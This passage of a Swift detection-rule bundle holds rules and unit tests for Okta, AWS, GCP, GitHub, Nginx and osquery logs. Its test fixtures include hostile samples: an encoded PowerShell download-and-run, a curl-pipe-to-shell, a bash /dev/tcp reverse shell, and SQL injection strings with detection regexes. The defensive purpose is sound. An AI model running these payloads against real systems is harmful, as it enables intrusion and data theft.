        Self.log.with("requestObject.spec.volumes[1].hostPath.path", "/etcetera")),
      RuleTest(
        "refused", matches: false,
        Self.log.with(#"annotations."authorization.k8s.io/decision""#, "forbid")),
    ]
  }
}
"""####,
    "MargayShippedRules/SignInFromHostingProvider.swift": ####"""
import MargayKit

/// Finds interactive sign-ins from the networks of hosting providers, by their numbers.
struct SignInFromHostingProvider: Rule, Equatable {
  let id = "Okta.SignInFromHostingProvider"
  let place: CodePlace? = .here()
  let logTypes = [OktaSystemLog.logType]
  let displayName: String? = "Sign-in from a hosting provider"
  let severity = Severity.low
  let description =
    "A person signed in from a network in which machines are rented, not people connected."
  let reference = "https://developer.okta.com/docs/reference/api/system-log/"
  let runbook =
    "1. Does the person use a remote desktop or a VPN of their own?\n2. If not, end the session and reset the password."
  let tags = ["Okta", "Identity", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1078.004"])]

  /// Numbers of autonomous systems in which virtual machines are rented, built once when the rules are loaded.
  private static let hosting: Set<Int> = Set(
    """
    14061 16276 24940 20473 63949 14618 16509 8075 15169 396982 31898 51167 60781 9009 36352 62240
    """.split(whereSeparator: \.isWhitespace).compactMap { Int($0) })

  /// Programs that sign in by themselves.
  private static let programs: Set<Text> = ["curl", "python-requests", "go-http-client", "okhttp"]

  func matches(_ event: Event) -> Bool {
    guard event["eventType"] == "user.session.start", OktaSystemLog.isSuccess(event),
      let number = event.int("securityContext.asNumber"), Self.hosting.contains(number)
    else { return false }
    guard let agent = event.text("client.userAgent.rawUserAgent") else { return true }
    return !UserAgent(agent).products.contains { Self.programs.contains($0.name) }
  }

  func dedup(_ event: Event) -> String? {
    event.groupKey("actor.alternateId", "securityContext.asNumber")
  }

  func severity(_ event: Event) -> Severity? {
    event["securityContext", "isProxy"] == true ? .medium : nil
  }

  private static let log = TestLog(
    """
    {"published": "2026-03-02T09:00:00Z", "eventType": "user.session.start", "outcome": {"result": "SUCCESS"},
     "actor": {"alternateId": "ann@example.com"}, "securityContext": {"asNumber": 24940, "isProxy": false},
     "client": {"userAgent": {"rawUserAgent": "Mozilla/5.0 (X11; Linux) Firefox/123.0"}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "browser on a rented machine", matches: true, Self.log,
        dedup: #"["ann@example.com",24940]"#, severity: .low),
      RuleTest(
        "proxy", matches: true, Self.log.with("securityContext.isProxy", true), severity: .medium),
      RuleTest("access provider", matches: false, Self.log.with("securityContext.asNumber", 3320)),
      RuleTest(
        "program", matches: false,
        Self.log.with("client.userAgent.rawUserAgent", "python-requests/2.31")),
    ]
  }
}
"""####,
    "MargayShippedRules/SignInFromLookalikeDomain.swift": ####"""
import MargayKit

/// Finds sign-ins of accounts whose mail domain is nearly one of the organization's own.
///
/// The domains are the site's: without them the rule is not configured, and it is registered disabled.
struct SignInFromLookalikeDomain: Rule, Equatable {
  let id = "Okta.SignInFromLookalikeDomain"
  let place: CodePlace? = .here()
  let logTypes = [OktaSystemLog.logType]
  let displayName: String? = "Sign-in from a look-alike mail domain"
  let severity = Severity.high
  let description =
    "An account signed in whose mail domain differs in a letter from one of our own. Somebody may have been let in as a guest."
  let reference = "https://developer.okta.com/docs/reference/api/system-log/"
  let runbook = "1. Who invited the account?\n2. Deactivate it and end its sessions."
  let tags = ["Okta", "Identity", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1078"])]

  /// The organization's own mail domains, in lower case.
  let domains: [Text]
  var isEnabled: Bool { !domains.isEmpty }

  init(domains: [String] = []) { self.domains = domains.map { Text($0).lowercased() } }

  func validateConfiguration() -> [String] {
    domains.isEmpty ? ["it needs the organization's own mail domains"] : []
  }

  func matches(_ event: Event) -> Bool {
    guard event["eventType"] == "user.session.start", OktaSystemLog.isSuccess(event),
      let login = event.text("actor.alternateId"),
      let domain = login.split(separator: "@").last?.lowercased(), !domains.contains(domain)
    else { return false }
    return domains.contains { Self.distance(domain.utf8, $0.utf8) <= 2 }
  }

  /// How many letters must be changed, added or removed to make one text of the other.
  private static func distance(_ left: [UInt8], _ right: [UInt8]) -> Int {
    guard left.count <= 255, right.count <= 255 else { return .max }
    var row = Array(0...right.count)
    for (index, byte) in left.enumerated() {
      var diagonal = row[0]
      row[0] = index + 1
      for (place, other) in right.enumerated() {
        let above = row[place + 1]
        row[place + 1] = min(above + 1, row[place] + 1, diagonal + (byte == other ? 0 : 1))
        diagonal = above
      }
    }
    return row[right.count]
  }

  func title(_ event: Event) -> String? {
    "\(OktaSystemLog.actor(event)) signed in from a domain like our own"
  }

  private static let log = TestLog(
    """
    {"published": "2026-03-02T09:00:00Z", "eventType": "user.session.start", "outcome": {"result": "SUCCESS"},
     "actor": {"alternateId": "ann@examp1e.com"}}
    """)

  var tests: [RuleTest] {
    let site = Self(domains: ["example.com"])
    return [
      RuleTest(
        "digit for a letter", matches: true, Self.log,
        title: "ann@examp1e.com signed in from a domain like our own", using: site),
      RuleTest(
        "own domain", matches: false, Self.log.with("actor.alternateId", "ann@Example.com"),
        using: site),
      RuleTest(
        "another domain", matches: false, Self.log.with("actor.alternateId", "ann@partner.test"),
        using: site),
      RuleTest(
        "failed", matches: false, Self.log.with("outcome.result", "FAILURE"), using: site),
      RuleTest("not configured", matches: false, Self.log),
    ]
  }
}
"""####,
    "MargayShippedRules/EncodedPowerShell.swift": ####"""
import MargayKit

/// Finds processes of PowerShell whose command is base64 on its command line, and reads it.
struct EncodedPowerShell: Rule, Equatable {
  let id = "Osquery.EncodedPowerShell"
  let place: CodePlace? = .here()
  let logTypes = [Osquery.logType]
  let displayName: String? = "Encoded command of PowerShell"
  let severity = Severity.medium
  let description =
    "PowerShell was started with an encoded command that fetches and runs something, or hides its window."
  let reference =
    "https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe"
  let runbook =
    "1. Read the decoded command in the alert.\n2. Which process started it?\n3. Isolate the machine if nobody knows the command."
  let tags = ["Osquery", "Windows", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1059.001"])]

  func matches(_ event: Event) -> Bool {
    guard event["action"] == "added", let command = command(event) else { return false }
    let text = Text(command)
    return ShellCommand.fetchesAndRuns(text) || text.lowercased().contains("frombase64string")
  }

  private func command(_ event: Event) -> String? {
    guard let line = event.text("columns.cmdline") else { return nil }
    let words = line.split(separator: " ").filter { !$0.isEmpty }
    guard
      words.contains(where: {
        $0.lowercased().contains("powershell") || $0.lowercased().contains("pwsh")
      })
    else { return nil }
    for (option, argument) in zip(words, words.dropFirst())
    where Self.isEncodedCommand(option.lowercased()) {
      return Base64.decodeText(argument.string)
    }
    return nil
  }

  /// PowerShell takes every beginning of a parameter's name that is unambiguous.
  private static func isEncodedCommand(_ option: Text) -> Bool {
    let name: Text = "-encodedcommand"
    return option.utf8Count >= 2 && name.hasPrefix(option) || option == "-ec"
  }

  func title(_ event: Event) -> String? {
    "Encoded command of PowerShell on \(event.shown("hostIdentifier"))"
  }

  func alertContext(_ event: Event) -> AlertContext { ["command": command(event)] }

  private static let log = TestLog(
    """
    {"name": "pack_windows_process_events", "hostIdentifier": "ws-7.example.com", "unixTime": 1772443620, "action": "added",
     "columns": {"cmdline": "powershell.exe -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AdABlAHMAdAApAA=="}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "fetches and runs", matches: true, Self.log,
        title: "Encoded command of PowerShell on ws-7.example.com",
        context: ["command": "iex (iwr http://x.test)"]),
      RuleTest(
        "harmless command", matches: false,
        Self.log.with("columns.cmdline", "powershell.exe -EncodedCommand RwBlAHQALQBEAGEAdABlAA==")),
      RuleTest(
        "another program", matches: false,
        Self.log.with(
          "columns.cmdline",
          "tool -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AdABlAHMAdAApAA==")),
      RuleTest("process ended", matches: false, Self.log.with("action", "removed")),
    ]
  }
}
"""####,
    "MargayShippedRules/APITokenCreatedTwin.swift": ####"""
import MargayKit

/// The same detection as `Okta.APITokenCreated` in YAML.
struct APITokenCreatedTwin: Rule, Equatable {
  let id = "Okta.APITokenCreated.Swift"
  let place: CodePlace? = .here()
  let logTypes = [OktaSystemLog.logType]
  let isEnabled = false
  let severity = Severity.medium
  let tags = ["Okta", "Identity", "Persistence"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0003:T1098.001"])]
  let summaryAttributes = ["actor.alternateId", "client.ipAddress"]
  let inlineFilters = [
    MatchExpression("actor.alternateId", "DoesNotEqual", "terraform-okta@example.com")
  ]

  func matches(_ event: Event) -> Bool {
    event["eventType"] == "system.api_token.create" && OktaSystemLog.isSuccess(event)
  }

  func title(_ event: Event) -> String? {
    "Okta API token \"\(event.shown("target[0].displayName"))\" created by \(event.shown("actor.alternateId"))"
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"eventType": "system.api_token.create", "outcome": {"result": "SUCCESS"}, "actor": {"alternateId": "ann@example.com"}, "target": [{"displayName": "ci"}]}"#
    )
    return [
      RuleTest("token made", matches: true, log),
      RuleTest(
        "by automation", matches: false, log.with("actor.alternateId", "terraform-okta@example.com")
      ),
    ]
  }
}
"""####,
    "MargayShippedRules/AccessKeyCreatedForOtherUserTwin.swift": ####"""
import MargayKit

/// The same detection as `AWS.CloudTrail.AccessKeyCreatedForOtherUser` in YAML.
struct AccessKeyCreatedForOtherUserTwin: Rule, Equatable {
  let id = "AWS.CloudTrail.AccessKeyCreatedForOtherUser.Swift"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let isEnabled = false
  let severity = Severity.medium
  let tags = ["AWS", "IAM", "Persistence"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0003:T1098.001"])]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.userName"]

  func matches(_ event: Event) -> Bool {
    event["eventName"] == "CreateAccessKey" && event["errorCode"].isNull
      && !event["requestParameters", "userName"].isNull
      && event["userIdentity", "userName"] != event["requestParameters", "userName"]
  }

  func title(_ event: Event) -> String? {
    "Access key created for user \(event.shown("requestParameters.userName")) by \(event.shown("userIdentity.arn"))"
  }

  func alertContext(_ event: Event) -> AlertContext {
    ["accessKeyId": event["responseElements", "accessKey", "accessKeyId"]]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"eventName": "CreateAccessKey", "userIdentity": {"userName": "alice"}, "requestParameters": {"userName": "bob"}}"#
    )
    return [
      RuleTest("for bob", matches: true, log),
      RuleTest("for oneself", matches: false, log.with("requestParameters.userName", "alice")),
    ]
  }
}
"""####,
    "MargayShippedRules/AdminPanelAccessTwin.swift": ####"""
import MargayKit

/// The same detection as `Nginx.AdminPanelAccess` in YAML.
struct AdminPanelAccessTwin: Rule, Equatable {
  let id = "Nginx.AdminPanelAccess.Swift"
  let place: CodePlace? = .here()
  let logTypes = [NginxAccess.logType]
  let isEnabled = false
  let severity = Severity.high
  let tags = ["Nginx", "Web", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1190"])]
  let summaryAttributes = ["remoteAddr", "request", "httpUserAgent"]

  private static let own: [IPRange] = ["10.0.0.0/8", "198.51.100.0/24", "2001:db8:10::/48"]
    .compactMap { IPRange($0) }
  private static let panels: [Text] = [" /admin", " /wp-admin/", " /phpmyadmin"]

  func matches(_ event: Event) -> Bool {
    Self.panels.contains { event["request"].containsIgnoringCase($0) }
      && NginxAccess.isSuccess(event) && !Self.own.contains { $0.contains(event["remoteAddr"]) }
  }

  func title(_ event: Event) -> String? { "Admin panel reached from \(event.shown("remoteAddr"))" }

  func dedup(_ event: Event) -> String? { event.groupKey("remoteAddr") ?? defaultDedup }

  func alertContext(_ event: Event) -> AlertContext {
    ["request": event["request"], "userAgent": event["httpUserAgent"]]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"remoteAddr": "192.31.196.20", "request": "GET /admin HTTP/1.1", "status": 200}"#)
    return [
      RuleTest("from outside", matches: true, log),
      RuleTest("from the office", matches: false, log.with("remoteAddr", "198.51.100.7")),
    ]
  }
}
"""####,
    "MargayShippedRules/ConsoleLoginWithoutMFATwin.swift": ####"""
import MargayKit

/// The same detection as `AWS.CloudTrail.ConsoleLoginWithoutMFA` in YAML.
struct ConsoleLoginWithoutMFATwin: Rule, Equatable {
  let id = "AWS.CloudTrail.ConsoleLoginWithoutMFA.Swift"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let isEnabled = false
  let severity = Severity.medium
  let tags = ["AWS", "IAM", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1078.004"])]
  let summaryAttributes = ["userIdentity.arn", "sourceIPAddress", "userAgent"]
  let dedupPeriodMinutes = 1440

  func matches(_ event: Event) -> Bool {
    event["eventSource"] == "signin.amazonaws.com" && event["eventName"] == "ConsoleLogin"
      && event["userIdentity", "type"] == "IAMUser"
      && event["responseElements", "ConsoleLogin"].equalsIgnoringCase("success")
      && !event["additionalEventData", "MFAUsed"].equalsIgnoringCase("yes")
  }

  func title(_ event: Event) -> String? {
    "Console sign-in without a second factor: \(event.shown("userIdentity.userName")) from \(event.shown("sourceIPAddress"))"
  }

  func dedup(_ event: Event) -> String? { event.groupKey("userIdentity.arn") ?? defaultDedup }

  func alertContext(_ event: Event) -> AlertContext {
    [
      "loginTo": event["additionalEventData", "LoginTo"],
      "mfaUsed": event["additionalEventData", "MFAUsed"],
    ]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      """
      {"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "sourceIPAddress": "203.0.113.50",
       "userIdentity": {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::123456789012:user/alice"},
       "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": "No"}}
      """)
    return [
      RuleTest("password only", matches: true, log),
      RuleTest("second factor", matches: false, log.with("additionalEventData.MFAUsed", "Yes")),
    ]
  }
}
"""####,
    "MargayShippedRules/KMSKeyDeletionScheduledTwin.swift": ####"""
import MargayKit

/// The same detection as `AWS.CloudTrail.KMSKeyDeletionScheduled` in YAML.
struct KMSKeyDeletionScheduledTwin: Rule, Equatable {
  let id = "AWS.CloudTrail.KMSKeyDeletionScheduled.Swift"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let isEnabled = false
  let severity = Severity.high
  let tags = ["AWS", "KMS", "Impact"]
  let reports = [
    ReportMapping(framework: "MITRE ATT&CK", values: ["TA0040:T1485", "TA0040:T1486"])
  ]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.keyId"]

  func matches(_ event: Event) -> Bool {
    guard event["eventSource"] == "kms.amazonaws.com", event["errorCode"].isNull else {
      return false
    }
    return event["eventName"].isIn(["DisableKey", "DeleteImportedKeyMaterial"])
      || event["eventName"] == "ScheduleKeyDeletion"
        && event["requestParameters", "pendingWindowInDays"] < 30
  }

  func title(_ event: Event) -> String? {
    "Key \(event.shown("requestParameters.keyId")): \(event.shown("eventName")) by \(event.shown("userIdentity.arn"))"
  }

  func alertContext(_ event: Event) -> AlertContext {
    ["pendingWindowInDays": event["requestParameters", "pendingWindowInDays"]]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"eventSource": "kms.amazonaws.com", "eventName": "ScheduleKeyDeletion", "requestParameters": {"keyId": "k", "pendingWindowInDays": 7}}"#
    )
    return [
      RuleTest("seven days", matches: true, log),
      RuleTest(
        "thirty days", matches: false, log.with("requestParameters.pendingWindowInDays", 30)),
    ]
  }
}
"""####,
    "MargayShippedRules/MFAResetByAnotherTwin.swift": ####"""
import MargayKit

/// The same detection as `Okta.MFAResetByAnother` in YAML.
struct MFAResetByAnotherTwin: Rule, Equatable {
  let id = "Okta.MFAResetByAnother.Swift"
  let place: CodePlace? = .here()
  let logTypes = [OktaSystemLog.logType]
  let isEnabled = false
  let severity = Severity.low
  let tags = ["Okta", "Identity", "Multi-factor Authentication"]
  let reports = [
    ReportMapping(framework: "MITRE ATT&CK", values: ["TA0006:T1556.006", "TA0003:T1556.006"])
  ]
  let summaryAttributes = ["actor.alternateId", "client.ipAddress"]
  let dedupPeriodMinutes = 30

  private static let calls: Set<Text> = ["user.mfa.factor.reset_all", "user.mfa.factor.deactivate"]

  func matches(_ event: Event) -> Bool {
    event["eventType"].isIn(Self.calls) && OktaSystemLog.isSuccess(event)
      && event["actor", "id"] != event["target", 0, "id"]
  }

  func severity(_ event: Event) -> Severity? {
    if event.text("actor.displayName")?.lowercased().hasPrefix("service desk") == true {
      return nil
    }
    if event.text("client.ipAddress")?.isPublicIPAddress == true { return .high }
    return event["actor", "type"] == "User" ? .medium : nil
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("actor.alternateId")) removed factors of \(event.shown("target[0].alternateId")) in Okta"
  }

  func dedup(_ event: Event) -> String? { event.groupKey("target[0].id") ?? defaultDedup }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"eventType": "user.mfa.factor.reset_all", "outcome": {"result": "SUCCESS"}, "actor": {"id": "1", "type": "User"}, "target": [{"id": "2"}]}"#
    )
    return [
      RuleTest("by another", matches: true, log, severity: .medium),
      RuleTest("by oneself", matches: false, log.with("target[0].id", "1")),
    ]
  }
}
"""####,
    "MargayShippedRules/PlainHTTPAccessTwin.swift": ####"""
import MargayKit

/// The same detection as `AWS.S3ServerAccess.PlainHTTPAccess` in YAML.
struct PlainHTTPAccessTwin: Rule, Equatable {
  let id = "AWS.S3ServerAccess.PlainHTTPAccess.Swift"
  let place: CodePlace? = .here()
  let logTypes = [S3ServerAccess.logType]
  let isEnabled = false
  let severity = Severity.low
  let tags = ["AWS", "S3", "Compliance"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0006:T1040"])]
  let summaryAttributes = ["bucket", "requester", "useragent"]
  let dedupPeriodMinutes = 1440

  func matches(_ event: Event) -> Bool {
    event["tlsVersion"].isNull && event["ciphersuite"].isNull && !event["requester"].isNull
      && event["operation"].hasPrefix("REST.") && event["httpstatus"] < 400
  }

  func title(_ event: Event) -> String? {
    "Bucket \(event.shown("bucket")) used over plain HTTP by \(event.shown("requester"))"
  }

  func dedup(_ event: Event) -> String? { event.groupKey("bucket", "requester") ?? defaultDedup }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"bucket": "b", "requester": "r", "operation": "REST.GET.OBJECT", "httpstatus": 200}"#)
    return [
      RuleTest("plain", matches: true, log),
      RuleTest("over TLS", matches: false, log.with("tlsVersion", "TLSv1.3")),
    ]
  }
}
"""####,
    "MargayShippedRules/RepositoryMadePublicTwin.swift": ####"""
import MargayKit

/// The same detection as `GitHub.RepositoryMadePublic` in YAML.
struct RepositoryMadePublicTwin: Rule, Equatable {
  let id = "GitHub.RepositoryMadePublic.Swift"
  let place: CodePlace? = .here()
  let logTypes = [GitHubAudit.logType]
  let isEnabled = false
  let severity = Severity.high
  let tags = ["GitHub", "Exfiltration"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0010:T1567.001"])]
  let summaryAttributes = ["actor", "repo", "actor_ip"]
  let inlineFilters = [MatchExpression("repo", "DoesNotEndWith", ".github.io")]

  func matches(_ event: Event) -> Bool {
    event["action"] == "repo.access" && event["visibility"].equalsIgnoringCase("public")
      && !event["previous_visibility"].equalsIgnoringCase("public")
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("actor")) made \(event.shown("repo")) public"
  }

  func dedup(_ event: Event) -> String? { event.groupKey("repo") ?? defaultDedup }

  func alertContext(_ event: Event) -> AlertContext { ["before": event["previous_visibility"]] }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"action": "repo.access", "visibility": "public", "previous_visibility": "private", "repo": "example/secret"}"#
    )
    return [
      RuleTest("made public", matches: true, log),
      RuleTest("static site", matches: false, log.with("repo", "example/x.github.io")),
    ]
  }
}
"""####,
    "MargayShippedRules/RootActivityTwin.swift": ####"""
import MargayKit

/// The same detection as `AWS.CloudTrail.RootActivity` in YAML.
struct RootActivityTwin: Rule, Equatable {
  let id = "AWS.CloudTrail.RootActivity.Swift"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let isEnabled = false
  let severity = Severity.high
  let tags = ["AWS", "IAM", "Privilege Escalation"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0004:T1078.004"])]
  let summaryAttributes = ["recipientAccountId", "sourceIPAddress", "eventName"]
  let dedupPeriodMinutes = 120
  let outputIDs: [String]? = ["security-on-call"]

  private static let harmless: Set<Text> = [
    "GetAccountPublicAccessBlock", "DescribeEventAggregates",
  ]
  private static let critical: Set<Text> = [
    "CreateAccessKey", "DeactivateMFADevice", "PasswordUpdated", "EmailUpdated",
  ]

  func matches(_ event: Event) -> Bool {
    event["userIdentity", "type"] == "Root" && !event["userIdentity", "invokedBy"].exists
      && event["eventType"] != "AwsServiceEvent" && !event["eventName"].isIn(Self.harmless)
  }

  func severity(_ event: Event) -> Severity? {
    event["userIdentity", "accessKeyId"].hasPrefix("AKIA") || event["eventName"].isIn(Self.critical)
      ? .critical : nil
  }

  func title(_ event: Event) -> String? {
    "Root user of account \(event.shown("recipientAccountId")): \(event.shown("eventName"))"
  }

  func dedup(_ event: Event) -> String? {
    event.groupKey("recipientAccountId", "eventName", "userIdentity.accessKeyId") ?? defaultDedup
  }

  func alertContext(_ event: Event) -> AlertContext {
    ["sourceIp": event["sourceIPAddress"], "userAgent": event["userAgent"]]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"eventName": "CreateAccessKey", "eventType": "AwsApiCall", "userIdentity": {"type": "Root"}, "recipientAccountId": "123456789012"}"#
    )
    return [
      RuleTest("root makes a key", matches: true, log, severity: .critical),
      RuleTest(
        "a service for root", matches: false,
        log.with("userIdentity.invokedBy", "backup.amazonaws.com")),
    ]
  }
}
"""####,
    "MargayShippedRules/ServiceAccountKeyCreatedTwin.swift": ####"""
import MargayKit

/// The same detection as `GCP.ServiceAccountKeyCreated` in YAML.
struct ServiceAccountKeyCreatedTwin: Rule, Equatable {
  let id = "GCP.ServiceAccountKeyCreated.Swift"
  let place: CodePlace? = .here()
  let logTypes = [GCPAuditLog.logType]
  let isEnabled = false
  let severity = Severity.medium
  let tags = ["GCP", "Persistence"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0003:T1098.001"])]
  let summaryAttributes = [
    "protoPayload.authenticationInfo.principalEmail", "protoPayload.requestMetadata.callerIp",
  ]

  func matches(_ event: Event) -> Bool {
    event["protoPayload", "methodName"].hasSuffix(".CreateServiceAccountKey")
      && GCPAuditLog.isSuccess(event)
      && event.text("protoPayload.authenticationInfo.principalEmail")?.lowercased()
        .hasSuffix(".gserviceaccount.com") != true
  }

  func title(_ event: Event) -> String? {
    "\(GCPAuditLog.actor(event)) created a key for a service account in \(event.shown("resource.labels.project_id"))"
  }

  func dedup(_ event: Event) -> String? {
    event.groupKey("protoPayload.authenticationInfo.principalEmail") ?? defaultDedup
  }

  func alertContext(_ event: Event) -> AlertContext {
    [
      "serviceAccount": event["protoPayload", "resourceName"],
      "address": event["protoPayload", "requestMetadata", "callerIp"],
    ]
  }

  var tests: [RuleTest] {
    let log = TestLog(
      #"{"protoPayload": {"methodName": "google.iam.admin.v1.CreateServiceAccountKey", "authenticationInfo": {"principalEmail": "ann@example.com"}}}"#
    )
    return [
      RuleTest("by a person", matches: true, log),
      RuleTest("refused", matches: false, log.with("protoPayload.status.code", 7)),
    ]
  }
}
"""####,
    "MargayShippedRules/EncodedCommandInRequest.swift": ####"""
import MargayKit

/// Finds requests that carry a command, however often it is percent-encoded, or base64 in a parameter.
struct EncodedCommandInRequest: Rule, Equatable {
  let id = "Nginx.EncodedCommandInRequest"
  let place: CodePlace? = .here()
  let logTypes = [NginxAccess.logType]
  let displayName: String? = "Command hidden in a request"
  let severity = Severity.medium
  let description =
    "The target of a request holds a command that fetches and runs something, or a shell for another machine, once its encoding is taken off."
  let reference = "https://owasp.org/www-community/attacks/Command_Injection"
  let runbook =
    "1. Was it answered with success? Then look for what it fetched on the server.\n2. Which component takes the parameter?\n3. Block the address while you look."
  let tags = ["Nginx", "Web", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1190"])]
  let summaryAttributes = ["remoteAddr", "request"]

  func matches(_ event: Event) -> Bool { command(event) != nil }

  private func command(_ event: Event) -> Text? {
    guard let target = NginxAccess.request(event)?.target else { return nil }
    let decoded = PercentDecoding.decodeFully(target)
    if Self.isCommand(decoded) { return decoded }
    for parameter in RequestTarget(target).parameters where parameter.value.utf8Count >= 16 {
      if let text = Base64.decodeText(parameter.value.string), Self.isCommand(Text(text)) {
        return Text(text)
      }
    }
    return nil
  }

  private static func isCommand(_ text: Text) -> Bool {
    ShellCommand.fetchesAndRuns(text) || ShellCommand.isReverseShell(text)
  }

  func title(_ event: Event) -> String? { "\(event.shown("remoteAddr")) sent a hidden command" }

  func dedup(_ event: Event) -> String? { event.groupKey("remoteAddr") }

  func severity(_ event: Event) -> Severity? { NginxAccess.isSuccess(event) ? .high : nil }

  func alertContext(_ event: Event) -> AlertContext {
    ["command": command(event), "request": event["request"]]
  }

  private static let log = TestLog(
    """
    {"time": "2026-03-02T09:00:00Z", "remoteAddr": "192.31.196.20", "status": 404, "bodyBytesSent": 10,
     "request": "GET /cgi?x=%253Bcurl%2520http%253A%252F%252Fx.test%252Fa%257Csh HTTP/1.1"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "encoded twice", matches: true, Self.log, title: "192.31.196.20 sent a hidden command",
        dedup: "192.31.196.20", severity: .medium),
      RuleTest("answered", matches: true, Self.log.with("status", 200), severity: .high),
      RuleTest(
        "base64 in a parameter", matches: true,
        Self.log.with(
          "request",
          "GET /a?run=YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMzEuMTk2LjIwLzQ0NDQgMD4mMQ%3D%3D HTTP/1.1"),
        context: [
          "command": "bash -i >& /dev/tcp/192.31.196.20/4444 0>&1",
          "request":
            "GET /a?run=YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMzEuMTk2LjIwLzQ0NDQgMD4mMQ%3D%3D HTTP/1.1",
        ]),
      RuleTest(
        "a search for a command", matches: false,
        Self.log.with("request", "GET /search?q=curl+manual HTTP/1.1")),
      RuleTest("no request line", matches: false, Self.log.with("request", "-")),
    ]
  }
}
"""####,
    "MargayShippedRules/SQLInjectionAttempt.swift": ####"""
import MargayKit

/// Finds parameters that end a string of SQL and go on with a statement of their own.
struct SQLInjectionAttempt: Rule, Equatable {
  let id = "Nginx.SQLInjectionAttempt"
  let place: CodePlace? = .here()
  let logTypes = [NginxAccess.logType]
  let displayName: String? = "SQL in a request"
  let severity = Severity.low
  let description = "A parameter of a request has the form of SQL injection."
  let reference = "https://owasp.org/www-community/attacks/SQL_Injection"
  let runbook =
    "1. Were the answers larger than others? Then data may have gone out.\n2. Does the component bind its parameters?"
  let tags = ["Nginx", "Web", "Initial Access"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0001:T1190"])]
  let threshold = 5

  func matches(_ event: Event) -> Bool {
    guard let target = NginxAccess.request(event)?.target else { return false }
    let decoded = PercentDecoding.decodeFully(target)
    // The words first: a regular expression costs a hundred times as much.
    guard Self.words.contains(where: { decoded.contains($0) }) else { return false }
    let text = decoded.string
    return text.contains(/union(\s|\/\*.*?\*\/)+(all(\s|\/\*.*?\*\/)+)?select\b/)
      || text.contains(/['"]\s*(or|and)\s+['"]?\w+['"]?\s*(=|like)\s*['"]?\w/)
      || text.contains(/;\s*(drop|delete|insert|update)\s+\w/)
      || text.contains(/\b(sleep|benchmark|pg_sleep|waitfor\s+delay)\s*\(/)
  }

  private static let words: [Text] = [
    "select", "' or", "\" or", "' and", "\" and", "drop", "delete", "insert", "update", "sleep",
    "benchmark",
    "waitfor",
  ]

  func dedup(_ event: Event) -> String? { event.groupKey("remoteAddr") }

  private static let log = TestLog(
    """
    {"time": "2026-03-02T09:00:00Z", "remoteAddr": "192.31.196.20", "status": 200, "bodyBytesSent": 10,
     "request": "GET /item?id=1%20UNION/**/ALL%20SELECT%20password%20FROM%20users HTTP/1.1"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest("union with a comment", matches: true, Self.log, dedup: "192.31.196.20"),
      RuleTest(
        "always true", matches: true,
        Self.log.with("request", "GET /login?u=admin'%20or%20'1'='1 HTTP/1.1")),
      RuleTest(
        "slow answer", matches: true,
        Self.log.with("request", "GET /item?id=1%20and%20sleep(5) HTTP/1.1")),
      RuleTest(
        "selected items", matches: false,
        Self.log.with("request", "GET /items?selected=union-jack HTTP/1.1")),
      RuleTest(
        "sleep as a word", matches: false,
        Self.log.with("request", "GET /articles?tag=sleep HTTP/1.1")),
    ]
  }
}
"""####,
    "MargayShippedRules/ScannerUserAgent.swift": ####"""
import MargayKit

/// Finds requests of scanning tools, which say their name as a product of the user agent.
struct ScannerUserAgent: Rule, Equatable {
  let id = "Nginx.ScannerUserAgent"
  let place: CodePlace? = .here()
  let logTypes = [NginxAccess.logType]
  let displayName: String? = "Scanning tool"
  let severity = Severity.info
  let description = "A client says that it is a tool for finding weaknesses and did not hide it."
  let reference = "https://www.rfc-editor.org/rfc/rfc9110#section-10.1.5"
  let runbook =
    "1. Is it one of our own tests?\n2. If not, see which requests were answered with success."
  let tags = ["Nginx", "Web", "Reconnaissance"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0043:T1595.002"])]
  let threshold = 10

